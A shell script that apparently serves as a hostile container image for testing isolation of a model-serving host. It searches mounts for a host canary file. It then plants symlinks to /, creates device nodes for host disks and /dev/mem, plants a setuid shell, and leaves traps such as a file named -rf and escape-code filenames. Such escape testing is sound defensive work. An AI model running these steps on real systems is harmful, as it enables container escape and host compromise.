#!/bin/sh
# The server of a hostile image. At each start it searches every mount for forbidden files, then changes each writable folder so
# that the next start, or a program of the host, could leave it.
#   READ, WROTE, MOUNTED, DEVICE: an escape.   PLACE: a writable folder.   ATTACKED: the attack is finished.
# The last word of its command is stay or leave. CANARY is the path of the forbidden file on the host.

DEEP=deep
while [ ${#DEEP} -lt 3000 ]; do DEEP=$DEEP/d; done

points() {
  while read -r _ _ _ _ point _; do
    case $point in / | /proc* | /sys* | /dev* | /etc/hosts | /etc/hostname | /etc/resolv.conf) ;; *) echo "$point" ;; esac
  done < /proc/self/mountinfo
}

seek() { # every path from a mount to the canary: from the host's root, upwards, through links of an earlier start
  for way in "$1$CANARY" "$1/canary" "$1/../canary" "$1/../../canary" "$1"/*/canary "$1"/*"$CANARY" "$1"/*/*/canary; do
    [ -e "$way" ] || continue
    case $(cat "$way" 2> /dev/null) in *"$WORD"*) echo "READ $way" ;; esac
    echo owned >> "$way" && echo "WROTE $way"
  done
  [ -e "$1/etc/shadow" ] && [ -e "$1/proc/1" ] && echo "READ $1/etc/shadow"
}

for point in $(points); do seek "$point"; done 2> /dev/null

attack() {
  at=$1
  echo "PLACE $at"
  mv "$at" "$at.gone" && ln -s / "$at" && echo "MOUNTED $at: renamed"
  rm -rf "$at" && ln -s / "$at" && echo "MOUNTED $at: removed"
  for entry in "$at"/* "$at"/.[a-z]*; do # replace each entry with a link
    [ -e "$entry" ] || [ -L "$entry" ] || continue
    mv "$entry" "$entry.was" && ln -s / "$entry"
  done
  for name in files cache live frozen aside inductor_headers vllm config.json model qwen35 sockets admin.sock; do
    ln -s / "$at/$name"
  done
  ln -s "${CANARY%/*}" "$at/outside"
  ln -s "$CANARY" "$at/graph"
  ln "$at/../canary" "$at/hard"
  ln "$at/graph" "$at/hardlink"
  for way in bind remount tmpfs; do
    case $way in
      bind) mount --bind / "$at" && echo "MOUNTED $at: bind" ;;
      remount) mount -o remount,rw,bind "$at" && echo "MOUNTED $at: remount" ;;
      tmpfs) mount -t tmpfs none "$at" && echo "MOUNTED $at: tmpfs" ;;
    esac
  done
  while read -r major minor _ disk; do # the disks of the host
    case $disk in sd[a-z] | vd[a-z] | nvme*n? | mmcblk?) ;; *) continue ;; esac
    mknod "$at/dev-$disk" b "$major" "$minor" && head -c 1 "$at/dev-$disk" > "$at/byte" && [ -s "$at/byte" ] && echo "DEVICE $disk"
  done < /proc/partitions
  mknod "$at/mem" c 1 1 && head -c 1 "$at/mem" > "$at/byte" && [ -s "$at/byte" ] && echo "DEVICE mem"
  mknod "$at/pipe" p # blocks a reader
  mkdir "$at/closed" && echo kept > "$at/closed/of-root" && chmod 600 "$at/closed/of-root" && chmod 700 "$at/closed"
  cp /bin/sh "$at/setuid" && chmod 4777 "$at/setuid"
  mkdir -p "$at/$DEEP"
  echo > "$at/$(printf 'a\nline \033[31m')"
  echo > "$at/-rf"
  truncate -s 4T "$at/sparse"
  chown 0:0 "$at"
  chmod "$MODE" "$at"
}

for point in $(points); do
  [ -d "$point" ] && echo > "$point/.try" && rm "$point/.try" && attack "$point"
done 2> /dev/null
for point in $(points); do # files
  [ -d "$point" ] && continue
  echo owned >> "$point" && echo "WROTE $point"
  mv "$point" "$point.gone" && echo "MOUNTED $point: renamed"
  mount -o remount,rw,bind "$point" && echo "MOUNTED $point: remount"
done 2> /dev/null
echo ATTACKED
for last; do :; done
[ "$last" = leave ] && exit 1
while :; do sleep 1; done
